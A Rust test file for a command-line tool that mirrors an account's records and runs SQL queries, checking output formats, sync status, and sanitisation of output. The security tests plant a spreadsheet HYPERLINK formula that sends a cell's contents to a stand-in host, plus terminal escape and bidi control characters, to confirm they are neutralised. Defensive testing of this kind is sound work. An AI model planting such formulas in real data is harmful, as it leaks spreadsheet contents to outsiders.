//! The mirror on the command line.

use super::*;
use crate::support::{Ran, command, run, run_with_input};

async fn ran(account: &Account, state: &std::path::Path, arguments: &[&str]) -> Ran {
    let mut command = command(account, state);
    command.args(arguments);
    run(command).await
}

#[tokio::test]
async fn rows_are_printed_as_table_csv_and_json() {
    let account = account(Api::Session, 40).await;
    let state = tempfile::tempdir().unwrap();
    let sql = "select id, name, null as missing, 1.5 as number from campaigns order by name limit 2";
    let json = ran(&account, state.path(), &["query", sql, "--format", "json"]).await;
    let json: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!((&json["columns"], &json["complete"]), (&json!(["id", "name", "missing", "number"]), &json!(true)));
    let row = &json["rows"][0];
    let csv = ran(&account, state.path(), &["query", sql, "--format", "csv"]).await;
    let lines: Vec<&str> = csv.stdout.lines().collect();
    assert_eq!(
        lines[..2],
        ["id,name,missing,number", &format!("{},{},,1.5", row[0].as_str().unwrap(), row[1].as_str().unwrap())]
    );
    let table = ran(&account, state.path(), &["query", sql]).await;
    assert!(table.stdout.contains(row[1].as_str().unwrap()) && table.stdout.contains("missing"), "{}", table.stdout);
    assert!(table.stderr.contains("campaigns: as of 20"), "{}", table.stderr);

    let mut command = command(&account, state.path());
    command.args(["query", "-", "--param", "email", "--format", "csv"]);
    let stdin = run_with_input(command, "select count(*) from campaigns where type = ?").await;
    assert_eq!(stdin.stdout.lines().next(), Some("count(*)"));
    let wrong = ran(&account, state.path(), &["query", "select nme from campaigns"]).await;
    assert!(wrong.code != Some(0) && wrong.stderr.contains("Did you mean name"), "{}", wrong.stderr);
}

#[tokio::test]
async fn sync_and_status_show_the_state_of_the_mirror() {
    let account = account(Api::Session, 40).await;
    let state = tempfile::tempdir().unwrap();
    let before = ran(&account, state.path(), &["status"]).await;
    assert!(before.stdout.contains("not read yet"), "{}", before.stdout);
    assert_eq!(account.stats().await["requests"], 0);
    let synced = ran(&account, state.path(), &["sync"]).await;
    assert_eq!(synced.code, Some(0), "{}", synced.stderr);
    let after = ran(&account, state.path(), &["status"]).await;
    assert!(!after.stdout.contains("not read yet") && after.stdout.contains("complete"), "{}", after.stdout);
    let wrong = ran(&account, state.path(), &["sync", "contact"]).await;
    assert!(wrong.code == Some(2) && wrong.stderr.contains("contacts, opportunities"), "{}", wrong.stderr);
}

/// A person at a terminal gets the complete answer, and waits for it.
#[tokio::test]
async fn a_query_waits_for_the_first_scan() {
    let account = account(Api::Session, 2_000).await;
    let state = tempfile::tempdir().unwrap();
    let query = ran(&account, state.path(), &["query", "select count(*) from contacts", "--format", "csv"]).await;
    assert_eq!(query.stdout.lines().nth(1), Some("2000"), "{}", query.stderr);
}

/// No text in the account controls the terminal.
#[tokio::test]
async fn terminal_escapes_are_removed() {
    let account = account(Api::Session, 5).await;
    let state = tempfile::tempdir().unwrap();
    account
        .add("contacts", json!({"firstName": "\u{1b}[31mRed\u{202e}", "lastName": "X", "email": "r@x.example"}))
        .await;
    for format in ["table", "csv", "json"] {
        let query = ran(
            &account,
            state.path(),
            &["query", "select firstName from contacts where lastName = 'X'", "--format", format],
        )
        .await;
        assert!(
            query.stdout.contains("Red") && !query.stdout.contains(['\u{1b}', '\u{202e}']),
            "{format}: {:?}",
            query.stdout
        );
    }
}

/// A spreadsheet runs a cell that looks like a formula, which a stranger may have typed into a form.
#[tokio::test]
async fn csv_is_safe_to_open_and_numbers_stay() {
    let account = account(Api::Session, 5).await;
    let state = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"https://x.example?\"&A1)";
    account.add("contacts", json!({"firstName": formula, "lastName": "X", "email": "r@x.example"})).await;
    let sql = "select firstName, -5 as n, '-5' as t, '+15550100' as phone, '-1.5e3' as e, ' @x' as \"=h\", '－1+1' as w
               from contacts where lastName = 'X'";
    let ran = ran(&account, state.path(), &["query", sql, "--format", "csv"]).await;
    let mut lines = csv::Reader::from_reader(ran.stdout.as_bytes());
    assert_eq!(lines.headers().unwrap(), vec!["firstName", "n", "t", "phone", "e", "'=h", "w"]);
    let row = lines.records().next().unwrap().unwrap();
    assert_eq!(row, vec![&*format!("'{formula}"), "-5", "-5", "+15550100", "-1.5e3", "' @x", "'－1+1"]);
    assert!(ran.stderr.contains("4 cells begin like a formula"), "{}", ran.stderr);
}
